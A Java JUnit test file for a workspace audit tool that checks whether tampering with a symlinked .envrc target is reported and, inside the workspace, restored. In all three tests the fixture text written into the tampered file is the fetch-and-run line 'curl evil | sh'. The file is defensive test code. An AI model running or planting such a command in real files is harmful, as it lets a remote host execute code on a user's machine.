package dev.magus.workspace.audit;

import static org.assertj.core.api.Assertions.assertThat;

import dev.magus.policy.control.ControlFiles;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * A control entry that is a link ({@code .envrc -> envrc.real}) is compared through it too:
 * direnv reads the file it leads to, so a change of that file is a change of {@code .envrc}.
 * Put back only where the audit may write (inside the workspace or its git dirs, beneath real
 * directories); elsewhere only reported.
 */
class ControlLinkTargetTest {
    /** The audits' walks kept from run to run, as one process keeps them. */
    private final AuditCaches caches = new AuditCaches();
    Path ws;
    Path outside;

    @BeforeEach
    void make() throws IOException {
        ws = Files.createTempDirectory("magus-linktarget-test-").toRealPath();
        outside = Files.createTempDirectory("magus-linktarget-outside-").toRealPath();
    }

    @AfterEach
    void remove() throws IOException {
        Restorer.removeEntry(ws);
        Restorer.removeEntry(outside);
    }

    private ControlFileAudit audit() {
        return ControlFileAudit.of(ControlFiles.of(ws, List.of(ws.resolve(".git"))), Readers.java(), caches);
    }

    @Test
    void aChangedFileALinkLeadsToInsideTheWorkspaceIsReportedAndPutBack() throws IOException {
        Path real = Files.writeString(ws.resolve("envrc.real"), "export A=1\n");
        Path envrc = Files.createSymbolicLink(ws.resolve(".envrc"), Path.of("envrc.real"));
        ControlFileAudit.Baseline baseline = audit().before();
        Files.writeString(real, "curl evil | sh\n");
        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
        assertThat(report.changes()).singleElement().isInstanceOfSatisfying(Change.Changed.class, c -> {
            assertThat(c.path()).isEqualTo(envrc);
            assertThat(c.aspects()).containsExactly(Change.Aspect.TARGET);
        });
        assertThat(report.diagnostics()).singleElement().satisfies(d -> {
            assertThat(d.message()).contains(".envrc", "envrc.real", "restored");
            assertThat(d.details()).containsEntry("restored", "true").containsEntry("target", real.toString());
        });
        assertThat(Files.readString(real)).isEqualTo("export A=1\n");
        assertThat(Files.isSymbolicLink(envrc)).isTrue();
        assertThat(Files.readSymbolicLink(envrc)).isEqualTo(Path.of("envrc.real"));
    }

    @Test
    void aChangedFileALinkLeadsToOutsideTheWorkspaceIsOnlyReported() throws IOException {
        Path real = Files.writeString(outside.resolve("envrc.real"), "export A=1\n");
        Files.createSymbolicLink(ws.resolve(".envrc"), real);
        ControlFileAudit.Baseline baseline = audit().before();
        Files.writeString(real, "curl evil | sh\n");
        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
        assertThat(report.changed()).isTrue();
        assertThat(report.diagnostics()).singleElement().satisfies(d -> {
            assertThat(d.message()).contains(".envrc", real.toString(), "NOT restored", "outside the workspace");
            assertThat(d.details()).containsEntry("restored", "false");
        });
        assertThat(Files.readString(real)).isEqualTo("curl evil | sh\n");
    }

    @Test
    void aTargetWhoseDirectoryBecameALinkIsNotWrittenThrough() throws IOException {
        Path dir = Files.createDirectories(ws.resolve("conf"));
        Path real = Files.writeString(dir.resolve("envrc.real"), "export A=1\n");
        Files.createSymbolicLink(ws.resolve(".envrc"), Path.of("conf/envrc.real"));
        ControlFileAudit.Baseline baseline = audit().before();
        Restorer.removeEntry(dir);
        Files.createSymbolicLink(dir, outside);
        Files.writeString(outside.resolve("envrc.real"), "curl evil | sh\n");
        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
        assertThat(report.diagnostics()).singleElement().satisfies(d -> {
            assertThat(d.message()).contains(".envrc", "NOT restored");
            assertThat(d.details()).containsEntry("restored", "false");
        });
        assertThat(Files.readString(outside.resolve("envrc.real"))).isEqualTo("curl evil | sh\n");
        assertThat(dir).isSymbolicLink();
    }
}
